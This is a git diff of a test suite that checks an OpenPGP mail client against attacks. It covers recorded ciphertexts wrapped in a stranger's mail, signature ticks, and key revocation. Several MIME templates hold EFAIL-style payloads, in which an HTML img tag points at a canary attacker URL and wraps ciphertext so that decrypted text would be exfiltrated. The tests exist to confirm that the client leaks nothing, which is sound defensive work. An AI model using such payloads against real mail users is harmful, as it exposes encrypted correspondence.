@@ -1,5 +1,12 @@
+import { revokeKey } from 'openpgp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { MessageView } from '../../../main/contract/messages.ts';
+import {
+  type AttackedPractice,
+  attackedPractice,
+  type FoundMessage,
+  hasTick,
+} from '../../support/attacked-practice.ts';
+import { type CanaryServer, startCanaryServer } from '../../support/canary-server.ts';
 import { needMailServers } from '../../support/mail-servers/need-mail-servers.ts';
 import { type MailServers, startMailServers } from '../../support/mail-servers/start-mail-servers.ts';
 import {
@@ -25,6 +32,8 @@ const secret = 'CANARY the test was positive';
 describe.skipIf(!(await needMailServers()))('attacks on OpenPGP mail', { timeout: 60_000 }, () => {
   let servers: MailServers;
   let practice: Practice;
+  let attacked: AttackedPractice;
+  let canary: CanaryServer;
   let honest: PgpPerson;
   let forger: PgpPerson;
   let recorded: string;
@@ -36,6 +45,8 @@ describe.skipIf(!(await needMailServers()))('attacks on OpenPGP mail', { timeout
       users: [{ user: practiceAddress, password: practicePassword }],
     });
     practice = await startPractice(servers);
+    attacked = attackedPractice(practice, servers, eve);
+    canary = await startCanaryServer();
     [honest, forger] = await Promise.all([newPgpPerson('Ana Ruiz', ana), newPgpPerson('Ana Ruiz', eve)]);
     const [own] = await practice.call('keys.own', {});
     const { text } = await practice.call('keys.ownText', { fingerprint: own?.fingerprint ?? '' });
@@ -56,50 +67,13 @@ describe.skipIf(!(await needMailServers()))('attacks on OpenPGP mail', { timeout
   afterAll(async () => {
     await practice.stop();
     await servers.stop();
+    canary.close();
   });
 
-  /** Delivers a message whose outer or inner subject is `subject`, and gives it as the window gets it. */
-  async function receive(subject: string, bytes: Buffer): Promise<MessageView & { readonly threadId: string }> {
-    await servers.deliver(bytes, practiceAddress, eve);
-    const found = async () => {
-      const view = { kind: 'role', role: 'inbox' } as const;
-      const { rows } = await practice.call('threads.list', { view, cursor: null, limit: 200 });
-      for (const { id } of rows) {
-        const { messages } = await practice.call('threads.get', { threadId: id });
-        const message = messages.find((each) => each.subject === subject);
-        if (message !== undefined) return { ...message, threadId: id };
-      }
-      return null;
-    };
-    const message = await practice.until(found, (each) => each !== null, 20_000);
-    if (message === null) throw new Error('it did not come in');
-    return message;
-  }
-
-  const hasTick = ({ status }: MessageView) =>
-    (status.kind === 'encrypted' || status.kind === 'signed') &&
-    status.signer === 'verified' &&
-    status.compared &&
-    status.covers === 'message';
-
-  /** Everything that an answer or a forward of it would say, and all that stands under "search". */
-  async function whatLeaves({ id, threadId }: MessageView & { readonly threadId: string }): Promise<string> {
-    const said: string[] = [];
-    for (const kind of ['reply', 'forward'] as const) {
-      const draft = await practice.call('drafts.open', { kind, threadId, messageId: id, patientId: null, to: null });
-      said.push(draft.quote, draft.html, draft.subject, ...draft.attachments.map(({ name }) => name));
-      await practice.call('drafts.discard', { draftId: draft.id });
-    }
-    const view = { kind: 'search', text: 'positive' } as const;
-    const { rows } = await practice.call('threads.list', { view, cursor: null, limit: 50 });
-    const hit = rows.find((row) => row.id === threadId);
-    return [...said, hit?.snippet ?? ''].join('\n');
-  }
-
-  async function shown(message: MessageView): Promise<string> {
-    const { text, html } = await practice.call('messages.body', { messageId: message.id });
-    return `${message.snippet}\n${text}\n${html ?? ''}`;
-  }
+  const receive: AttackedPractice['receive'] = (subject, bytes) => attacked.receive(subject, bytes);
+  const find: AttackedPractice['find'] = (subject) => attacked.find(subject);
+  const whatLeaves = (message: FoundMessage) => attacked.whatLeaves(message, 'positive');
+  const shown: AttackedPractice['shown'] = (message) => attacked.shown(message);
 
   describe('positive controls', () => {
     it('gives what Ana encrypts and signs its tick, and quotes it in an answer', async () => {
@@ -218,14 +192,14 @@ describe.skipIf(!(await needMailServers()))('attacks on OpenPGP mail', { timeout
   });
 
   describe('a recorded ciphertext in a stranger’s mail', () => {
-    const wraps: Readonly<Record<string, (armor: string) => string>> = {
+    const wraps: Readonly<Record<string, (armor: string, web: string) => string>> = {
       'between texts': (armor) =>
         `Content-Type: multipart/mixed; boundary=out\n\n--out\nContent-Type: text/plain\n\nPlease read and answer:\n--out\n${encryptedEntity(armor)}\n--out\nContent-Type: text/plain\n\nThank you.\n--out--\n`,
-      'inside an open picture': (armor) =>
-        `Content-Type: multipart/mixed; boundary=out\n\n--out\nContent-Type: text/html\n\n<img src="http://canary.example/?\n--out\n${encryptedEntity(armor)}\n--out\nContent-Type: text/html\n\n">\n--out--\n`,
+      'inside an open picture': (armor, web) =>
+        `Content-Type: multipart/mixed; boundary=out\n\n--out\nContent-Type: text/html\n\n<img src="${web}/?\n--out\n${encryptedEntity(armor)}\n--out\nContent-Type: text/html\n\n">\n--out--\n`,
       'in the text': (armor) => `Content-Type: text/plain\n\nPlease answer:\n\n${armor}\nThank you.\n`,
-      'in the page': (armor) =>
-        `Content-Type: text/html\n\n<p>Please answer:</p><img src="http://canary.example/?q=<pre>${armor}</pre>"><pre>${armor}</pre>\n`,
+      'in the page': (armor, web) =>
+        `Content-Type: text/html\n\n<p>Please answer:</p><img src="${web}/?q=<pre>${armor}</pre>"><pre>${armor}</pre>\n`,
       'as a file': (armor) =>
         `Content-Type: multipart/mixed; boundary=out\n\n--out\nContent-Type: text/plain\n\nSee the file.\n--out\nContent-Type: application/octet-stream; name=report.asc\nContent-Disposition: attachment; filename=report.asc\n\n${armor}\n--out--\n`,
       'in an attached message': (armor) =>
@@ -236,7 +210,7 @@ describe.skipIf(!(await needMailServers()))('attacks on OpenPGP mail', { timeout
       '%s is readable on request, without a tick, and leaves with no answer',
       async (name) => {
         const subject = `Wrapped ${name}`;
-        const entity = wraps[name]?.(recorded) ?? '';
+        const entity = wraps[name]?.(recorded, canary.address) ?? '';
         const message = await receive(subject, around([`From: Eve <${eve}>`, to, `Subject: ${subject}`], entity));
         expect(message.status).toEqual({ kind: 'plain' });
         expect(await shown(message)).not.toContain('CANARY');
@@ -247,9 +221,26 @@ describe.skipIf(!(await needMailServers()))('attacks on OpenPGP mail', { timeout
         const inside = await practice.call('messages.inside', { messageId: message.id, path });
         expect(inside.text).toContain(secret);
         // What stands around it, its loading picture above all, is not shown together with it.
-        expect(`${inside.text}${inside.html ?? ''}`).not.toContain('canary.example');
+        expect(`${inside.text}${inside.html ?? ''}`).not.toContain(canary.address);
       },
     );
+  });
+
+  it('sent on whole by a stranger leaves with no answer to them', async () => {
+    const armor = await encryptTo(
+      protectedEntity({ from: ana, to: practiceAddress, subject: 'Sent on', text: secret }),
+      [ourKey],
+      honest,
+    );
+    const message = await receive(
+      'Sent on',
+      around([`From: Eve <${eve}>`, to, 'Subject: ...'], encryptedEntity(armor)),
+    );
+    expect(message.status).toMatchObject({ kind: 'encrypted', signer: 'unknown' });
+    expect(message.warnings).toContain('protected-from-differs');
+    const { id: messageId, threadId } = message;
+    const draft = await practice.call('drafts.open', { kind: 'reply', threadId, messageId, patientId: null, to: null });
+    expect([draft.quote, draft.subject]).toEqual(['', 'Re:']);
   });
 
   describe('integrity', () => {
@@ -322,5 +313,59 @@ describe.skipIf(!(await needMailServers()))('attacks on OpenPGP mail', { timeout
       await practice.call('keys.remove', { fingerprint: honest.key.getFingerprint(), address: ana });
       expect(await practice.refusals(draft)).toEqual(['ask:compare-key-first']);
     });
+  });
+
+  describe('a tick that was given', () => {
+    const leo = 'leo@clinic.example';
+    const subject = 'Signed by Leo';
+    let person: PgpPerson;
+    const keep = async (address: string) => {
+      const key = person.publicKey;
+      const { fingerprint } = await practice.call('keys.keep', { address, key, source: 'file' });
+      await practice.call('keys.compare', { fingerprint, address });
+      return fingerprint;
+    };
+    const signer = async () => {
+      const message = await find(subject);
+      return message?.status.kind === 'signed' ? `${message.status.signer} ${hasTick(message)}` : 'none';
+    };
+    const becomes = (word: string) => practice.until(signer, (each) => each === word, 20_000);
+
+    it('goes at once with the key it rests on, and comes back with it', async () => {
+      person = await newPgpPerson('Leo', leo);
+      const fingerprint = await keep(leo);
+      const entity = protectedEntity({ from: leo, to: practiceAddress, subject, text: 'See you on Friday.' });
+      const signed = signedEntity(entity, await signDetached(entity, person));
+      await receive(subject, around([`From: Leo <${leo}>`, to, `Subject: ${subject}`], signed));
+      expect(await signer()).toBe('verified true');
+      await practice.call('keys.remove', { fingerprint, address: leo });
+      expect(await signer()).toBe('unknown false');
+      await keep(leo);
+      await becomes('verified true');
+    });
+
+    it('goes when a later mail withdraws the key, for whomever it was kept', async () => {
+      // The same key, kept for another address of his, learns of it as well.
+      await keep('leo.home@clinic.example');
+      const { publicKey } = await revokeKey({ key: person.key, format: 'object' });
+      const keydata = Buffer.from(publicKey.write())
+        .toString('base64')
+        .replace(/(.{70})/g, '$1\n ');
+      const head = [`From: Leo <${leo}>`, to, 'Subject: Lost key', `Autocrypt: addr=${leo}; keydata=\n ${keydata}`];
+      await receive('Lost key', around(head, 'Content-Type: text/plain\n\nSomebody has my key.\n'));
+      await becomes('invalid false');
+      const keys = await practice.call('keys.list', {});
+      expect(keys.filter(({ address }) => address.startsWith('leo')).map(({ status }) => status)).toEqual([
+        'revoked',
+        'revoked',
+      ]);
+    });
+  });
+
+  it('made nobody ask the attacker’s web server for anything', async () => {
+    expect(canary.asked).toEqual([]);
+    // For control: it would have noticed.
+    await fetch(`${canary.address}/control`);
+    expect(canary.asked).toEqual(['/control']);
   });
 });
